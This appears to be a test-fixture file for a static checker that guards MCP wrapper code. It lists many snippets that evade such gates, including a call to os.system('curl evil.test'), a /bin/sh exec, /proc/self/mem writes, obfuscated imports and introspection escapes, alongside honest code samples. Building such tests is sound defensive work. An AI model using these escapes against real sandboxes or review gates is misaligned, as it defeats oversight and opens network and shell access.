"""Sources with which somebody tries to get past a wrapper's gate, and sources of honest people.

Each attack is a module of a wrapper. Where it needs one, ``ctx`` is the context of a call.
"""

from __future__ import annotations

# By the code that has to be found, attacks by name.
ATTACKS: dict[str, dict[str, str]] = {
    "MW100": {
        "a syntax that is none": "def f(:\n",
        "an encoding that a reviewer does not see": (
            "# -*- coding: utf-7 -*-\nx = 1  # +AAo-import socket\n"
        ),
        "a NUL": "import json\x00\n",
        "nesting without end": "x = " + "(" * 5000 + ")" * 5000,
    },
    "MW101": {
        "a client": "import httpx2\n",
        "the client's former name": "import httpx\n",
        "a client under another name": "import requests as json\n",
        "what the client connects with": "from httpcore2 import AsyncConnectionPool\n",
        "a client of the standard library": "import urllib.request\n",
        "part of a module that is half allowed": "from urllib import request\n",
        "a whole module for its harmless part": "import urllib.parse\nurllib.request\n",
        "another half": "from http import client\n",
        "a socket": "import socket\n",
        "the socket below": "from _socket import socket\n",
        "TLS": "import ssl\n",
        "an import in a function": "def f():\n    import smtplib\n",
        "an import that may fail": "try:\n    import aiohttp\nexcept ImportError:\n    pass\n",
        "an import for types only": (
            "from typing import TYPE_CHECKING\nif TYPE_CHECKING:\n    import httpx2\n"
        ),
        "an event loop": "from asyncio import get_running_loop\n",
        "streams of an event loop": "from asyncio import open_connection\n",
        "a deeper module": "from asyncio.streams import open_connection\n",
        "a logger that posts": "import logging.handlers\n",
        "a logger that posts, found": "import logging\nlogging.handlers.HTTPHandler('h', '/')\n",
        "a client of MCP": "from mcp import ClientSession\n",
        "a client of MCP, deeper": "from mcp.client.stdio import stdio_client\n",
        "keys from a URL": "from jwt import PyJWKClient\n",
        "a server's test client": "from starlette.testclient import TestClient\n",
        "a socket of a mail module": "from email import utils\nutils.socket.create_connection\n",
        "through a name in a mail module": "from email.utils import socket\n",
        "an exporter": "from opentelemetry.exporter.otlp.proto.http import Compression\n",
        "a gateway for metrics": "from prometheus_client import push_to_gateway\n",
        "full-width letters": "import ｓｏｃｋｅｔ\n",
    },
    "MW102": {
        "a process": "import subprocess\n",
        "a shell": "import os\nos.system('curl evil.test')\n",
        "a shell by name": "from os import popen\n",
        "another name of os": "import posix\n",
        "an allowed name as a bridge": "import os\nos.environ; os.execv('/bin/sh', [])\n",
        "a terminal": "import pty\n",
        "native code": "import ctypes\n",
        "native code, compiled at run time": "from cffi import FFI\n",
        "workers": "import multiprocessing\n",
        "workers, deeper": "from concurrent.futures import ProcessPoolExecutor\n",
        "another's os": "import logging\nlogging.os.system('id')\n",
        "another's os by name": "from contextlib import os\nos.system('id')\n",
        "a path's os": "import os\nos.path.os.system('id')\n",
        "a private os": "import random\nrandom._os.system('id')\n",
    },
    "MW103": {
        "imports at run time": "import importlib\nimportlib.import_module('soc' + 'ket')\n",
        "a name for the function": "from importlib import import_module as load\n",
        "modules that are loaded": "import sys\nsys.modules['socket']\n",
        "modules under another name": "import sys as s\ns.modules\n",
        "frames": "import sys\nsys._getframe()\n",
        "another's sys": "import dataclasses\ndataclasses.sys.modules\n",
        "another's sys by name": "from typing import sys\nsys.modules\n",
        "two modules further": "import re\nre.enum.sys.modules\n",
        "built-ins": "import builtins\n",
        "another's built-ins": "import enum\nenum.bltns.eval('1')\n",
        "every object": "import gc\ngc.get_objects()\n",
        "what objects are made of": "import inspect\n",
        "a logger that opens a file": "import logging\nlogging.basicConfig(filename='x')\n",
        "an argument that opens a file": "import argparse\nargparse.FileType('w')('x')\n",
        "a class with any namespace": "from dataclasses import make_dataclass\n",
        "a pickle": "import pickle\npickle.loads(b'')\n",
        "code as data": "import marshal\n",
        "functions from code": "from types import FunctionType\n",
        "types from text": "from typing import get_type_hints\n",
        "types from text, later": "import typing\ntyping.ForwardRef('x')\n",
        "a module by path": "import runpy\n",
        "names as text": "from pkgutil import resolve_name\n",
        "a logger's settings": "from logging import config\n",
        "attributes by text": "from operator import attrgetter\n",
        "attributes by text in formats": "import string\nstring.Formatter()\n",
        "attributes copied": "from functools import update_wrapper\n",
        "an event loop's own module": "from unittest import mock\n",
        "everybody's context": "from contextvars import copy_context\n",
        "a file of any kind": "import io\nio.open('/proc/self/mem')\n",
        "a module as an attribute of something": "def f(thing):\n    return thing.sys.modules\n",
    },
    "MW104": {
        "the gate": "from mcp_wrapper_scaffold.gate import Gate\n",
        "the client in the gate": "from mcp_wrapper_scaffold.gate.transport import httpx\n",
        "the gate from the front": "from mcp_wrapper_scaffold import gate\n",
        "the whole library": "import mcp_wrapper_scaffold\n",
        "the whole library under another name": (
            "import mcp_wrapper_scaffold as w\nw.gate.Gate([])\n"
        ),
        "the tests' upstream": "from mcp_wrapper_scaffold.testing import RecordedUpstream\n",
        "all metrics": "from mcp_wrapper_scaffold import metrics\n",
    },
    "MW105": {
        "a package that nobody knows": "import left_pad\n",
        "a standard module that nobody looked at": "import sqlite3\n",
        "files": "from pathlib import Path\n",
        "a module that is not there": "from .nowhere.else_ import x\nfrom elsewhere import y\n",
        "texts to types": "from pydantic import TypeAdapter\n",
    },
    "MW106": {
        "everything": "from json import *\n",
        "everything of the wrapper": "from . import *\n",
    },
    "MW110": {
        "a call of eval": "eval('1')\n",
        "exec by another name": "run = exec\n",
        "an import by a built-in": "__import__('socket')\n",
        "code": "compile('1', '', 'eval')\n",
        "a namespace": "globals()['x']\n",
        "an object's namespace": "def f(ctx):\n    return vars(ctx.fetch)\n",
        "a decorator": "@eval\n@str\ndef f(): ...\n",
        "a name bound too late": "run = eval\ndef eval(): ...\n",
        "a name taken back": "eval = eval\n",
        "a debugger": "breakpoint()\n",
        "full-width letters": "ｅｖａｌ('1')\n",
        "a default": "def f(run=exec):\n    run('1')\n",
        "a key": "table = {'run': exec}\n",
    },
    "MW111": {
        "the process's memory": "open('/proc/self/mem', 'wb')\n",
        "another name": "read = open\n",
        "a stream's file": "import sys\ntype(sys.stdout.buffer.raw)('/proc/self/mem', 'wb')\n",
    },
    "MW112": {
        "cells": "def f(ctx):\n    return ctx.fetch.__closure__\n",
        "what is in a cell": "def f(cell):\n    return cell.cell_contents\n",
        "a namespace": "def f(ctx):\n    return ctx.fetch.__globals__\n",
        "built-ins by name": "__builtins__\n",
        "attributes that a pattern reads by position": (
            "def f(x, word):\n    class T:\n        __match_args__ = ('__' + word + '__',)\n"
        ),
        "built-ins set": "__builtins__ = {}\n",
        "built-ins by an import": "from . import __builtins__ as b\nb['ev' + 'al']\n",
        "built-ins of another": "from json import __builtins__ as b\n",
        "a loader": "__loader__.load_module('socket')\n",
        "a specification": "__spec__.loader\n",
        "a built-in's module": "print.__self__\n",
        "all classes": "().__class__.__base__.__subclasses__()\n",
        "all classes by a method": "type(()).mro()\n",
        "a frame of an exception": (
            "try:\n    1 / 0\nexcept ZeroDivisionError as e:\n    e.__traceback__.tb_frame\n"
        ),
        "the request in an exception": "def f(e):\n    return e.__cause__.request\n",
        "a frame of a generator": "(x for x in ()).gi_frame\n",
        "a frame of a coroutine": "async def f(): ...\nf().cr_frame.f_back\n",
        "a frame of a task": (
            "import asyncio\nasync def f():\n    asyncio.current_task().get_coro()\n"
        ),
        "a bound method's object": "def f(context):\n    return context.__self__\n",
        "an attribute by a method": "object.__getattribute__(print, '__self__')\n",
        "an entry changed": "def f(entry):\n    object.__setattr__(entry, 'origin', 'x')\n",
        "a class changed": "def f(x):\n    x.__class__ = dict\n",
        "code": "(lambda: 0).__code__.replace\n",
        "an attribute by a constant": "getattr(print, '__self__')\n",
        "an attribute by a sum": "getattr(print, '__se' + 'lf__')\n",
        "an attribute by a join": "getattr(print, ''.join(['__se', 'lf__']))\n",
        "an attribute backwards": "getattr(print, '__fles__'[::-1])\n",
        "an attribute by a pattern": (
            "def f(x):\n    match x:\n        case object(__closure__=c):\n            return c\n"
        ),
        "annotations set": "class A:\n    __annotations__ = {}\n",
        "full-width letters": "def f(x):\n    return x.__ｇｌｏｂａｌｓ__\n",
    },
    "MW113": {
        "a loop's connection": "def f(loop):\n    loop.create_connection(object, 'h', 1)\n",
        "a name": "def f(loop):\n    loop.getaddrinfo('evil.test', 53)\n",
        "a loop's process": "def f(loop):\n    loop.subprocess_shell(object, 'id')\n",
        "by a constant": "def f(loop):\n    getattr(loop, 'sock_connect')\n",
    },
    "MW114": {
        "a name from outside": "def f(x, name):\n    return getattr(x, name)\n",
        "a name from bytes": (
            "import base64\ndef f(x):\n    return getattr(x, base64.b64decode('eA').decode())\n"
        ),
        "getattr passed on": "import functools\nfunctools.reduce(getattr, ['a'], object)\n",
        "arguments unpacked": "def f(x):\n    return getattr(*x)\n",
        "an alias": "read = getattr\n",
        "a library that reads attributes": (
            "def f(model, x):\n    return model.model_validate(x, from_attributes=True)\n"
        ),
        "a decorator that copies": (
            "from functools import wraps\ndef f(x, names):\n    return wraps(x, assigned=names)\n"
        ),
        "setattr by a name": "def f(x, name):\n    setattr(x, name, 1)\n",
        "a decorator that copies, by position": (
            "import functools\ndef f(x, names):\n    return functools.wraps(x, names)\n"
        ),
        "a decorator with options from outside": (
            "from functools import wraps\ndef f(x, more):\n    return wraps(x, **more)\n"
        ),
        "a class of names from outside": "def f(names):\n    return type('T', (), names)\n",
        "a class, unpacked": "def f(parts):\n    return type(*parts)\n",
        "a class by its kind": (
            "from abc import ABCMeta\ndef f(names):\n    return ABCMeta('T', (), names)\n"
        ),
        "a class that says what is of its kind": (
            "class Kind(type):\n    def __instancecheck__(cls, x): return True\n"
        ),
        "fields that patterns read": (
            "from collections import namedtuple\n"
            "def f(word):\n    return namedtuple('T', ['tb_' + word])\n"
        ),
        "fields that patterns read, typed": (
            "from typing import NamedTuple\n"
            "def f(word):\n    return NamedTuple('T', [(word, object)])\n"
        ),
        "a format string from outside": "def f(text, ctx):\n    return text.format(ctx)\n",
        "a format string and a mapping": (
            "def f(text, ctx):\n    return text.format_map({'ctx': ctx})\n"
        ),
        "a format string without its text": (
            "def f(text, ctx):\n    return str.format(text, ctx)\n"
        ),
    },
    "MW115": {
        "a private attribute": "def f(ctx):\n    return ctx.secrets._cache\n",
        "one deeper than self": "class A:\n    def f(self):\n        return self.ctx._gate\n",
        "self outside of a class": "def f(self):\n    return self._gate\n",
        "a static method's first argument": (
            "class A:\n    @staticmethod\n    def f(ctx):\n        return ctx._gate\n"
        ),
        "by a constant": "def f(ctx):\n    return getattr(ctx, '_gate')\n",
        "a foreign object as a method's own": (
            "class A:\n    _gate = None\n    def f(self):\n        return self._gate\n"
            "def g(calls):\n    return A.f(calls)\n"
        ),
        "a private name of another": "from enum import _decompose\n",
    },
    "MW116": {
        "a format string": "'{0.__globals__}'.format(print)\n",
        "an annotation that is a text": "class A:\n    x: \"__import__('os')\"\n",
        "a text in an annotation": "x: list[\"eval('1')\"]\n",
        "an annotation that is put together": "x: 'ev' + 'al(1)'\n",
        "a call in an annotation": "x: print('1')\n",
        "an f-string": "name = f'{\"__glob\"}als__'\n",
        "a setting of a library": "config = {'from_attributes': True}\n",
        "a setting put together": "config = {'from_' + 'attributes': True}\n",
        "bytes": "name = b'__closure__'\n",
    },
    "MW117": {
        "a module in a variable": "import logging\nx = logging\n",
        "a module as an argument": "import json\nprint(json)\n",
        "getattr of a module": "import logging\ngetattr(logging, 'o' + 's')\n",
        "a module as a default": "import json\ndef f(j=json): ...\n",
        "a module as a class's attribute": "class A:\n    import json\n",
        "a module within one": "import collections\nx = collections.abc\n",
        "a module changed": "import json\njson.loads = print\n",
        "a class changed": "from mcp_wrapper_scaffold import Context\nContext.fetch = print\n",
        "a class changed by setattr": (
            "from mcp_wrapper_scaffold import Context\nsetattr(Context, 'fetch', print)\n"
        ),
        "something deleted": "import json\ndel json.loads\n",
        "hidden behind a comprehension": (
            "import logging\ndef f():\n    [logging for logging in ()]\n    return logging\n"
        ),
        "hidden behind a class": (
            "import json\ndef f():\n    class A:\n        json = 1\n    return json\n"
        ),
        "hidden behind a default": ("def f(x=(json := 0)):\n    return json\nimport json\n"),
        "hidden by global": (
            "def f():\n    global json\n    json = None\n    return json\nimport json\n"
        ),
        "of two imports the other": (
            "try:\n    import json as j\nexcept ImportError:\n    import math as j\nx = j\n"
        ),
    },
    "MW118": {
        "a second list": (
            "from mcp_wrapper_scaffold import AllowEntry\n"
            "def f():\n    return AllowEntry('https://evil.test', 'GET', '/')\n"
        ),
        "a list from the environment": (
            "from os import getenv\nfrom mcp_wrapper_scaffold import AllowEntry\n"
            "LIST = [AllowEntry(getenv('X', ''), 'GET', '/')]\n"
        ),
        "a list from a name that changes": (
            "from mcp_wrapper_scaffold import AllowEntry\nAPI = 'https://api.example.com'\n"
            "for API in ('https://evil.test',):\n    LIST = [AllowEntry(API, 'GET', '/')]\n"
        ),
        "a list from a name that an import changes": (
            "from mcp_wrapper_scaffold import AllowEntry\nAPI = 'https://api.example.com'\n"
            "from .settings import API\nLIST = [AllowEntry(API, 'GET', '/')]\n"
        ),
        "a list from a name that a function changes": (
            "from mcp_wrapper_scaffold import AllowEntry\nAPI = 'https://api.example.com'\n"
            "def f():\n    global API\n    API = 'https://evil.test'\n"
            "f()\nLIST = [AllowEntry(API, 'GET', '/')]\n"
        ),
        "entries that are none": (
            "from os import environ\nfrom types import SimpleNamespace\n"
            "from mcp_wrapper_scaffold import create_wrapper_server\n"
            "LIST = (SimpleNamespace(origin=environ['X'], method='GET', path_pattern='/'),)\n"
            "app = create_wrapper_server(allowlist=LIST)\n"
        ),
        "entries that are none, in place": (
            "from types import SimpleNamespace as AllowEntries\n"
            "import mcp_wrapper_scaffold\n"
            "from mcp_wrapper_scaffold import create_wrapper_server as make\n"
            "app = make(allowlist=[AllowEntries(origin='https://evil.test')])\n"
        ),
        "an entry that is made of another": (
            "from dataclasses import replace\n"
            "from mcp_wrapper_scaffold import AllowEntry, create_wrapper_server\n"
            "GOOD = AllowEntry('https://api.example.com', 'GET', '/')\n"
            "LIST = (replace(GOOD, origin='https://evil.test'),)\n"
            "app = create_wrapper_server(allowlist=LIST)\n"
        ),
        "a list that grows": (
            "from mcp_wrapper_scaffold import AllowEntry, create_wrapper_server\n"
            "LIST = [AllowEntry('https://api.example.com', 'GET', '/')]\n"
            "app = create_wrapper_server(allowlist=LIST)\n"
        ),
        "a list that is given": (
            "from mcp_wrapper_scaffold import create_wrapper_server\n"
            "def f(allowlist):\n    return create_wrapper_server(allowlist=allowlist)\n"
        ),
        "a list among options": (
            "from mcp_wrapper_scaffold import create_wrapper_server\n"
            "def f(**options):\n    return create_wrapper_server(**options)\n"
        ),
        "a server by a function": (
            "from functools import partial\n"
            "from mcp_wrapper_scaffold import create_wrapper_server\n"
            "make = partial(create_wrapper_server)\n"
        ),
        "a second server": (
            "from mcp_wrapper_scaffold import create_wrapper_server\n"
            "def f(allowlist):\n    return create_wrapper_server(allowlist=allowlist)\n"
            "def g(allowlist):\n    return create_wrapper_server(allowlist=allowlist)\n"
        ),
        "a second server by another name": (
            "from mcp_wrapper_scaffold import create_wrapper_server as a\nb = a\nc = a\n"
        ),
    },
}

# Packages of several modules, by the code that has to be found.
PACKAGE_ATTACKS: dict[str, tuple[str, dict[str, str]]] = {
    "a module handed on": (
        "MW103",
        {"settings": "import sys as s\n", "tools": "from .settings import s\ns.modules\n"},
    ),
    "a module handed on as a module's attribute": (
        "MW103",
        {"settings": "import sys as s\n", "tools": "from . import settings\nsettings.s.modules\n"},
    ),
    "a module handed on by its absolute name": (
        "MW103",
        {
            "settings": "import sys as s\n",
            "tools": "from evil_mcp.settings import s as t\nt.modules\n",
        },
    ),
    "a module handed on in two steps": (
        "MW117",
        {
            "a": "import logging as log\n",
            "b": "from .a import log\n",
            "tools": "from .b import log\nx = log\n",
        },
    ),
    "a list of another module that is worked out there": (
        "MW118",
        {
            "lists": "from os import environ\nLIST = tuple(environ)\n",
            "tools": (
                "from mcp_wrapper_scaffold import create_wrapper_server\nfrom .lists import LIST\n"
                "app = create_wrapper_server(allowlist=LIST)\n"
            ),
        },
    ),
    "a server in each of two modules": (
        "MW118",
        {
            "a": "from mcp_wrapper_scaffold import create_wrapper_server as s\ns()\n",
            "b": "from mcp_wrapper_scaffold import create_wrapper_server as s\ns()\n",
        },
    ),
}

# What honest wrappers do.
HONEST: dict[str, str] = {
    "a typed handler": '''
"""Tools."""

from __future__ import annotations

import datetime
import json
import logging
import re
from collections.abc import Mapping, Sequence
from dataclasses import dataclass, field, replace
from typing import Annotated, Any, Final, Literal, Protocol
from urllib.parse import quote, urlencode

from mcp.types import TextContent
from mcp_wrapper_scaffold import Context, FetchError, FetchResponse, GatedFetchDenied, ToolError

LOG: Final = logging.getLogger(__name__)
_ID = re.compile(r"[0-9]+")


@dataclass(frozen=True)
class Page:
    """One page."""

    number: int = 1
    filters: Mapping[str, str] = field(default_factory=dict)

    def query(self) -> str:
        return urlencode({"page[number]": self.number, **self.filters})

    def __eq__(self, other: object) -> bool:
        return isinstance(other, Page) and self.number == other.number


class Handlers:
    """Handlers."""

    def __init__(self, base: str = "https://api.example.com") -> None:
        self._base = base
        self._pages: dict[str, Page] = {}

    async def list_orders(self, args: dict[str, Any], ctx: Context) -> "Sequence[Page]":
        kind: Literal["os", "sys", "eval"] = "os"
        note: Annotated[str, "eval this"] = ""
        try:
            answer: FetchResponse = await ctx.fetch(
                f"{self._base}/v1/orders/{quote(str(args['id']))}?{Page().query()}",
                headers={"Authorization": f"Bearer {await ctx.secret('KEY')}"},
            )
        except FetchError as error:
            LOG.warning("%s: %s", error.__class__.__name__, error)
            raise ToolError(f"orders could not be read ({error.code})") from error
        rows = [self._row(row, kind, note) for row in answer.json()["data"]]
        return [replace(row, number=1) for row in rows]

    def _row(self, row: Mapping[str, object], kind: str, note: str) -> Page:
        names = getattr(self, "_pages")
        return Page(len(names) + len(json.dumps(row)))

    @classmethod
    def make(cls) -> Handlers:
        made = cls()
        cls._check(made)
        return made

    @staticmethod
    def _check(made: object) -> None:
        assert hasattr(made, "list_orders"), "call open (or exec) later; see __init__ and __name__"


def today() -> datetime.date:
    """Return it."""
    return datetime.datetime.now(datetime.UTC).date()
''',
    "a command": '''
import argparse
import sys
from os import environ

from mcp_wrapper_scaffold import AllowEntry, EnvSecret, create_wrapper_server, serve

API = "https://api.example.com"
ALLOWLIST = (
    AllowEntry(API, "GET", "/v1/*"),
    AllowEntry(origin="https://api.example.com", method="GET", path_pattern="/v2/*"),
)


def main(arguments: list[str] | None = None) -> int:
    """Serve."""
    parser = argparse.ArgumentParser()
    parser.add_argument("--port", type=int, default=int(environ.get("PORT", "8321")))
    given = parser.parse_args(arguments)
    app = create_wrapper_server(tools=[], agent_token=EnvSecret("T"), allowlist=ALLOWLIST)
    serve(app, port=given.port)
    print("done", file=sys.stderr)
    return 0


if __name__ == "__main__":
    sys.exit(main())
''',
    "words that have an innocent use": '''
from collections import namedtuple
from functools import wraps
from typing import Any, NamedTuple

LINE = "{name}: {count}"
Pair = namedtuple("Pair", "left right")
Point = NamedTuple("Point", [("x", int), ("y", int)])


def traced(function: Any) -> Any:
    """Wrap a function."""

    @wraps(function)
    def inner(*args: Any) -> str:
        shown = "{} {}".format(type(function).__name__, function(*args))
        return shown + LINE.format(name="calls", count=len(args))

    return inner
''',
    "a list by another name": """
from typing import Final

from mcp_wrapper_scaffold import AllowEntry, EnvSecret, create_wrapper_server

ORDERS = AllowEntry("https://api.example.com", "GET", "/v1/orders")
LIST: Final = (ORDERS, AllowEntry("https://api.example.com", "GET", "/v1/stores"))
SAME = LIST
app = create_wrapper_server(tools=[], agent_token=EnvSecret("T"), allowlist=SAME)
""",
    "a list in place": """
from mcp_wrapper_scaffold import AllowEntry, EnvSecret, create_wrapper_server

app = create_wrapper_server(
    tools=[],
    agent_token=EnvSecret("T"),
    allowlist=[AllowEntry("https://api.example.com", "GET", "/v1/orders")],
)
""",
    "names that only look alike": '''
def run(compile: bool, input: str, json: dict[str, int]) -> int:
    """Shadow modules and built-ins with parameters."""
    code = json["code"]
    select = resource = signal = code
    return select + resource + signal + (1 if compile and input else 0)


class Answer:
    """Have fields that are called like modules."""

    def __init__(self, http: int, code: int, test: int) -> None:
        self.http, self.code, self.test = http, code, test

    def total(self, other: "Answer | None") -> int:
        return self.code + (other.http if other else 0)
''',
    "concurrency": '''
import asyncio
from asyncio import TaskGroup


async def both(first, second):
    """Wait for both."""
    async with asyncio.timeout(5), TaskGroup() as group:
        tasks = [group.create_task(each) for each in (first, second)]
    return await asyncio.gather(*tasks)
''',
}
